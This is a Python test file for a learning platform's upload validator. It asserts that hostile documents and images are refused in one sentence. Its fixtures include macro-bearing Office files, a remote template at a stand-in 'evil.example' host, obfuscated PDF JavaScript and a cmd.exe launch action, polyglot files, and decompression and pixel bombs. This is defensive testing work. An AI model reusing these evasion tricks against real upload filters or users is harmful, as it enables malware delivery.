"""Documents and pictures that mean harm: each is refused in one sentence, and the server stays as it is."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest
import typst
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from wagtail.admin.forms.account import AvatarPreferencesForm
from wagtail.images.forms import get_image_form
from wagtail.users.models import UserProfile

from lms.common.limited import LimitedError, Trouble
from media.forms import PictureField
from media.models import SenImage
from media.services import uploads
from media.services.uploads import check_document, inspect_image
from tests.factories.media import image_bytes

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
MACRO_TYPE = '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
MACRO_RELATION = (
    '<Relationships><Relationship Id="r" Target="x.bin" '
    'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/></Relationships>'
)


TEMPLATE = (
    '<Relationships><Relationship Id="rId1" TargetMode="External" Target="{}" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)


def office(*parts, first="word/document.xml"):
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w", zipfile.ZIP_DEFLATED) as archive:
        given = dict(parts)
        archive.writestr("[Content_Types].xml", given.pop("[Content_Types].xml", TYPES.format("")))
        archive.writestr(first, "<x/>")
        for name, data in given.items():
            archive.writestr(name, data)
    return body.getvalue()


def compound(*entries):
    """Return the beginning of a compound file with these names in its directory."""
    names = [(name.encode("utf-16-le") + b"\x00\x00").ljust(64, b"\x00") + bytes(64) for name in entries]
    return OLE + bytes(504) + b"".join(names)


def pdf(*objects):
    return b"%PDF-1.7\n" + b"\n".join(b"%d 0 obj\n%s\nendobj" % one for one in enumerate(objects, 1)) + b"\n%%EOF"


def packed(objects):
    data = zlib.compress(objects)
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>" % len(data)
    return head + b"\nstream\n" + data + b"\nendstream"


SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
HONEST = [
    ("a.docx", office()),
    ("a.docx", office(("word/_rels/settings.xml.rels", TEMPLATE.format("file:///C:/Users/an/Normal.dotm")))),
    ("a.docx", office(("word/embeddings/oleObject1.bin", compound("Root Entry", "Equation Native")))),
    ("a.docx", office(("word/embeddings/Bang.xlsx", office(first="xl/workbook.xml")))),
    ("a.doc", compound("Root Entry", "WordDocument", "1Table")),
    ("a.pdf", pdf(b"<< /Type /Catalog >>")),
    ("a.pdf", pdf(packed(b"1 0 << /Type /Page /Contents 3 0 R >>"))),
    ("a.vtt", b"WEBVTT\n\n" + b"00:01.000 --> 00:02.000\nXin chao\n\n" * 2000),
]
HARMFUL = [
    ("a.docx", office(("word/vbaProject.bin", b"x")), "macros"),
    ("a.docx", office(("[Content_Types].xml", TYPES.format(MACRO_TYPE)), ("word/x.bin", b"x")), "macros"),
    ("a.docx", office(("[Content_Types].xml", TYPES.format(MACRO_TYPE).encode("utf-16"))), "macros"),
    ("a.docx", office(("word/_rels/document.xml.rels", MACRO_RELATION)), "macros"),
    ("a.docx", office(("word/_rels/settings.xml.rels", TEMPLATE.format("http://evil.example/t.dotm"))), "macros"),
    ("a.docx", office(("word/_rels/settings.xml.rels", TEMPLATE.format(r"\\may\chung\t.dotm"))), "macros"),
    ("a.docx", office(("word/anh.png", compound("VBA", "_VBA_PROJECT", "dir"))), "macros"),
    ("a.docx", office(("word/x.bin", office(("[Content_Types].xml", TYPES.format(MACRO_TYPE))))), "macros"),
    ("a.doc", compound("Root Entry", "Macros", "VBA", "_VBA_PROJECT"), "macros"),
    ("a.xls", compound("Root Entry", "Workbook", "_vba_project_cur"), "macros"),
    ("a.ppt", compound("Root Entry") + b"\x1f\x00\xff\x03\x14\x00\x00\x00", "macros"),
    ("a.pdf", pdf(SCRIPT), "active_pdf"),
    ("a.pdf", pdf(SCRIPT.replace(b"JavaScript", b"J#61va#53cript")), "active_pdf"),
    ("a.pdf", pdf(packed(b"1 0 " + SCRIPT)), "active_pdf"),
    ("a.pdf", pdf(packed(b"1 0 " + SCRIPT).replace(b"/ObjStm", b"/Obj#53tm")), "active_pdf"),
    ("a.pdf", pdf(b"<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream"), "active_pdf"),
    ("a.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>"), "active_pdf"),
    ("a.pdf", pdf(b"<< /Type /ObjStm >>\nstream\nencrypted\nendstream"), "unclear_pdf"),
    # the dictionary does not say that objects are packed; a decoy stands before the stream; the stream is damaged
    ("a.pdf", pdf(packed(b"1 0 " + SCRIPT).replace(b"/Type /ObjStm ", b"")), "active_pdf"),
    ("a.pdf", pdf(b"(stream\n" + zlib.compress(b"1 0 ") + b") " + packed(b"1 0 " + SCRIPT)), "active_pdf"),
    ("a.pdf", pdf(packed(b"% a remark\n 1 0 " + SCRIPT + b" " * 9000)[:-30].replace(b"/ObjStm", b"/X")), "active_pdf"),
    ("a.pdf", b"MZ\x90\x00" + pdf(b"<< >>"), "two_kinds"),
    ("a.pdf", pdf(b"<< >>") + office(), "two_kinds"),
    ("a.docx", b"MZ" + office(), "wrong_content"),
    ("a.docx", office()[:30] + b"%PDF-1.7" + office(), "two_kinds"),
    ("a.doc", OLE + b"%PDF-1.7", "two_kinds"),
    ("a.txt", b"xin chao %PDF-1.7", "wrong_content"),
    ("a.txt", b"x" * 5000 + b"\x00", "wrong_content"),
    ("a.vtt", b"WEBVTT\n" + b"00:01.000 --> 00:02.000\n" * 20_001, "too_much"),
    ("a.vtt", b"1\n00:00:01,000 --> 00:00:02,000\nsubrip\n", "wrong_content"),
]


@pytest.mark.parametrize(("name", "data"), HONEST)
def test_honest_documents_pass(name, data):
    assert check_document(SimpleUploadedFile(name, data)).read() == data


@pytest.mark.parametrize(("name", "data", "code"), HARMFUL)
def test_what_means_harm_is_refused_in_one_sentence(name, data, code):
    with pytest.raises(ValidationError) as caught:
        check_document(SimpleUploadedFile(name, data))
    assert caught.value.code == code
    assert len(caught.value.messages) == 1
    assert "%(" not in caught.value.messages[0]


def test_a_real_pdf_passes():
    data = typst.compile(b"= Gi\xc3\xa1o tr\xc3\xacnh\n" + b"#lorem(200)\n" * 30, format="pdf")
    assert check_document(SimpleUploadedFile("a.pdf", data)).read() == data


def test_a_package_that_unpacks_to_gigabytes_is_only_looked_over():
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"<x/>")
        archive.writestr("[Content_Types].xml", b" " * 300_000_000)
    file = SimpleUploadedFile("a.docx", body.getvalue())
    assert check_document(file) is file


@pytest.mark.parametrize("trouble", list(Trouble))
def test_what_the_limits_stop_is_said_in_words(monkeypatch, trouble):
    def run(*_args, **_more):
        raise LimitedError(trouble)

    monkeypatch.setattr(uploads, "run", run)
    for check in (lambda: inspect_image(b"x"), lambda: check_document(SimpleUploadedFile("a.pdf", b"%PDF-"))):
        with pytest.raises(ValidationError) as caught:
            check()
        assert (caught.value.code, caught.value.messages) == (trouble.value, [str(LimitedError(trouble))])


# --- pictures ---


def png(width, height):
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    body = zlib.compress(bytes((width + 1) * min(height, 2000)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def gif(frames):
    """Return a moving picture of one pixel."""
    frame = b"\x21\xf9\x04\x00\x01\x00\x00\x00" + b"\x2c" + struct.pack("<HHHH", 0, 0, 1, 1) + b"\x00\x02\x02D\x01\x00"
    head = b"GIF89a" + struct.pack("<HH", 1, 1) + b"\x80\x00\x00\x00\x00\x00\xff\xff\xff"
    return head + frame * frames + b"\x3b"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (png(60_000, 60_000), "too_many_pixels"),
        (png(8_000, 8_000), "too_many_pixels"),
        (gif(100_000), "too_many_frames"),
        (image_bytes("TIFF"), "unreadable"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"/>', "unreadable"),
        (image_bytes()[:200], "unreadable"),
    ],
)
def test_pictures_that_ask_for_too_much_are_refused(data, code):
    with pytest.raises(ValidationError) as caught:
        inspect_image(data)
    assert (caught.value.code, len(caught.value.messages)) == (code, 1)
    assert "%(" not in caught.value.messages[0]


def test_a_short_moving_picture_passes_as_it_is():
    assert inspect_image(gif(20)) is None


def test_the_field_decodes_nothing_itself_before_the_limited_process_has(monkeypatch):
    def no(*_args, **_more):
        raise AssertionError("a picture was opened in the server")

    monkeypatch.setattr(Image, "open", no)
    for name, data in (("a.gif", gif(100_000)), ("a.png", png(60_000, 60_000)), ("a.svg", b"<svg/>")):
        with pytest.raises(ValidationError):
            PictureField().clean(SimpleUploadedFile(name, data))


@pytest.mark.django_db
def test_the_picture_of_an_account_is_decoded_in_the_limited_process_too(writer):
    profile = UserProfile.get_for_user(writer)
    form = AvatarPreferencesForm({}, {"avatar": SimpleUploadedFile("a.gif", gif(100_000))}, instance=profile)
    assert form.errors == {"avatar": ["Ảnh động này quá dài. Hãy cắt bớt, hoặc tải lên dưới dạng phim (.mp4)."]}
    form = AvatarPreferencesForm({}, {"avatar": SimpleUploadedFile("a.png", image_bytes("PNG"))}, instance=profile)
    assert form.errors == {}


@pytest.mark.django_db
def test_wagtails_form_uses_that_field(writer):
    form = get_image_form(SenImage)(user=writer)
    assert isinstance(form.fields["file"], PictureField)
    file = SimpleUploadedFile("a.gif", gif(100_000))
    form = get_image_form(SenImage)({"title": "Ảnh"}, {"file": file}, user=writer)
    assert form.errors["file"] == ["Ảnh động này quá dài. Hãy cắt bớt, hoặc tải lên dưới dạng phim (.mp4)."]
